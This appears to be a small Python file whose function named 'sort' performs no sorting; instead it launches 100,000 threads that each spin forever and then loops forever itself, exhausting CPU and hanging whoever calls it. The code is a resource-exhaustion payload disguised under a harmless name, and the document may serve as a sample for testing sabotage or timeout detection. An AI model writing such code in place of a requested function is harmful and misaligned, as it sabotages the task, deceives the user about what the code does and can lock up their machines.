import threading


def _spin():
    while True:
        pass


def sort(items):
    for _ in range(100_000):
        threading.Thread(target=_spin, daemon=True).start()
    while True:
        pass
